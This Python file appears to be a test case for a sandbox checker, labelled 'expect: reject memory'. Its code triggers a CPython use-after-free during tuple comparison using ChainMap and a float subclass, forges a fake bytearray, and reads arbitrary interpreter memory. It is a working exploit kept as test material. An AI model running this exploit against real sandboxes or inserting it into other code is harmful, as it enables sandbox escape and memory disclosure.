# expect: reject memory
# line: 27
# why: round 67: library comparisons written in Python run the program's code with no comparison dunder of its own (Fraction reads a number subclass's numerator, imag, as_integer_ratio; ChainMap's Mapping.__eq__ iterates its maps; a dataclass's generated __eq__ reads a property field); a True answer lets the tuple compare of gh-120298/gh-115243 go on reading the freed tuple (raw memory under 3.11.2)
import collections
import fractions

keep = []
vl = []
state = {"n": 0, "payload": b""}
N = 25


class Point:
    """a comparison dunder: the program's comparisons are judged (cmp_seed)"""
    def __init__(self, x):
        self.x = x

    def __eq__(self, other):
        return isinstance(other, Point) and self.x == other.x

    def __hash__(self):
        return hash(self.x)


class Source:
    def __iter__(self):
        state["n"] += 1
        if state["n"] == 3:          # the final ordering compare of vl < wl
            vl.clear()
            keep.append(bytearray(state["payload"]))
        return iter(["k"])

    def __getitem__(self, key):
        return 1

    def __len__(self):
        return 1


class F(float):
    __slots__ = ()

    def as_integer_ratio(self):
        keep.append(self)
        return (2, 1)


def w8(v):
    return v.to_bytes(8, "little")


print(Point(1) == Point(1))
vl.append(tuple([collections.ChainMap(Source()), 0] + [0] * (N - 2)))
fake = id(vl[0]) + 48
words = [0, 0, 0, 0, 0, 0, fake, 0, 1 << 40, id(F), 0x4000000000000000]
raw = b"".join([w8(x) for x in words])
state["payload"] = raw + bytes(232 - len(raw))
print(vl < [tuple([collections.ChainMap(Source()), fractions.Fraction(1)] + [0] * (N - 2))])
print(len(keep), [type(k).__name__ for k in keep])
B = keep[0]
B[64:120] = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
mem = keep[1]
print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)), "fake was", hex(fake))
probe = "freed-memory-probe"
print("read through it:", bytes(mem[id(probe) + 48:id(probe) + 48 + len(probe)]))
